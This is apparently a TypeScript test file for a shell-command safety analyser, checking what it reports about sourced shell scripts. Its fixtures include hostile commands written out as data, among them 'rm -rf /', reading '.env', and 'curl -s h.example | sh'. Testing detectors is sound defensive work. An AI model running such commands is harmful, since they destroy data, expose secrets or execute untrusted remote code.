import assert from 'node:assert/strict';
import { analyseShell } from '../../../../src/core/shell/index.ts';
import { shown } from './statements.ts';

/** Statements of a command in a shell that can read these files. */
function stated(command: string, files: Readonly<Record<string, string>>): string[] {
  const statements = analyseShell(command, {
    cwd: '/home/u/ws',
    home: '/home/u',
    user: 'u',
    variables: new Map(),
    sourceText: (path) => files[path] ?? null,
  });
  return statements.map((statement) => shown(statement));
}

describe('what a sourced file leaves in the shell', () => {
  const library = '/home/u/ws/lib.sh';

  it('states the file as a script, and none of its effects', () => {
    const list = stated('source lib.sh', { [library]: 'cat .env; rm -rf /; eval "$X"\n' });
    assert.deepEqual(
      list.filter((line) => /\.env|delete|destroy|unresolved/.test(line)),
      [],
    );
    assert.ok(list.some((line) => line.startsWith('script /home/u/ws/lib.sh')));
  });

  it('judges its functions where they are called, and asks nothing about what they compute', () => {
    const text = 'show() { cat "$1"; $TOOL "$1"; cp "$1" "$(pick)"; }\n';
    const list = stated('. ./lib.sh; show a.txt', { [library]: text });
    assert.ok(list.includes('surely read /home/u/ws/a.txt (cat)'), list.join('\n'));
    assert.deepEqual(
      list.filter((line) => line.startsWith('unresolved')),
      [],
    );
  });

  it('still says that such a function runs a download', () => {
    const list = stated('. ./lib.sh; get', { [library]: 'get() { curl -s h.example | sh; }\n' });
    assert.ok(list.some((line) => line.includes('runs code from a download')));
  });

  it('does not ask for a file that is too much to follow', () => {
    const list = stated('. ./lib.sh; npm test', { [library]: 'a=$a$b;'.repeat(9_000) });
    assert.deepEqual(
      list.filter((line) => line.startsWith('unresolved')),
      [],
    );
  });

  it('ends when files source each other', () => {
    const list = stated('. ./lib.sh; cat "$X"', {
      [library]: '. ./other.sh; X=a.txt\n',
      '/home/u/ws/other.sh': '. ./lib.sh\n',
    });
    assert.ok(list.includes('surely read /home/u/ws/a.txt (cat)'), list.join('\n'));
  });
});
